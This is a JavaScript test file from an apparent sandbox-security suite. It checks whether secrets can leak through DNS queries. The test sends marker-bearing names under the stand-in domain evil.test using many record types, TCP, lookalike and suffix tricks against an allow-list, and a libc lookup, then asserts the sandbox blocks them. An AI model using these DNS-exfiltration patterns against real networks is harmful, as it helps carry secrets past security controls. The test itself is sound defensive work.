// SPDX-License-Identifier: Apache-2.0
// C4: secrets leave as questions for names that somebody else answers.
import '../lib/inside.mjs';
import assert from 'node:assert/strict';
import { after } from 'node:test';
import { bothWays } from '../lib/escape.mjs';
import { NETWORK } from '../lib/internet.mjs';
import { Services } from '../lib/services.mjs';
import { ask, nameserver } from '../lib/talk.mjs';
import { until } from '../lib/wait.mjs';

export const without = ['allow_names'];

const services = await Services.start();
after(() => services.stop());

const TYPES = { A: 1, NS: 2, CNAME: 5, NULL: 10, MX: 15, TXT: 16, AAAA: 28, SRV: 33, HTTPS: 65, ANY: 255 };
let round = 0;

export async function attack(box) {
	const server = await nameserver(box);
	const mark = `secret${++round}`;
	const names = [
		...Object.keys(TYPES).map(type => ({ name: `${mark}-${type.toLowerCase()}.evil.test`, type: TYPES[type] })),
		{ name: `${mark}-tcp.evil.test`, way: 'tcp' },
		{ name: `${mark}-below.www.example.test` }, // below a name that is allowed
		{ name: `${mark}-beside.example.test` },
		{ name: `${mark}-suffix.www.example.test.evil.test` },
		{ name: `${mark}-${'x'.repeat(40)}.${'y'.repeat(63)}.${'z'.repeat(63)}.evil.test` },
	];
	const answers = await ask(box, names.map(one => ({ ...one, server })));
	await box.run(`getent ahosts ${mark}-libc.evil.test`);
	await ask(box, [{ name: `honest${round}.npm.test`, server }]); // when this one is out, so are all before it
	await until('the honest question', () => services.asked().includes(`honest${round}.npm.test`));
	const out = [...new Set(services.asked().filter(name => name.includes(mark)))];
	return { succeeded: out.length > 0, out, wanted: names.length + 1, answers };
}

bothWays('C4 secrets in questions for names', {
	without,
	attack,
	daemon: NETWORK,
	sandbox: { network: { mode: 'allow', allow: ['www.example.test', '*.npm.test'] } },
	repelled(evidence) {
		for (const [question, answer] of Object.entries(evidence.answers))
			assert.match(answer, /^code [35] records 0$/, question);
	},
	broken: evidence => assert.ok(evidence.out.length >= evidence.wanted - 1, JSON.stringify(evidence.out)), // HTTPS is never asked for
});
